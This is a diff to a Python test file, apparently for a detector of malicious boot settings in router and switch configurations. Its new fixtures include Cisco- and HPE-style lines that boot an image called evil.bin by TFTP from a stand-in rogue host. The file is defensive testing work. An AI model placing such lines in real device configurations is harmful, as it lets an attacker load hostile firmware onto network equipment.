@@ -128,7 +128,8 @@ def bw08_written_by_hand(wire: Wire) -> None:
     """Boot lines as a hand may write them: abbreviated, with tabs, first in the file, below a title; HPE's own."""
     lines = (
         f"hostname sw41\n!\nbo sy t evil.bin {ROGUE}\nend\n",
-        f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nend\n",
+        # Lines of several rules are one file's.
+        f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nauto-tftp {ROGUE} x\nbo sy t evil.bin {ROGUE}\nend\n",
         f'; J9019A Configuration Editor; \n\nhostname "sw43"\nauto-tftp {ROGUE} "Q.swi"\n',
     )
     for number, text in enumerate(lines, 41):
@@ -238,6 +239,7 @@ def bw08_texts_for_people(wire: Wire) -> None:
     heads = (
         *("README", "HOW TO BOOT A ROUTER", "Netboot howto\n=============", "; notes\nUse this:", "1. Configure:"),
         *("From: noc@corp.example\nSubject: boot", "\xef\xbb\xbfWie man einen Router startet", "<pre>", "%PDF-1.4"),
+        *("to netboot a router, type the following", "== Netboot ==", '.\\"boot.8\n.TH BOOT 8', "- connect a console"),
     )
     for number, head in enumerate(heads):
         text = (head + order).encode("latin-1")
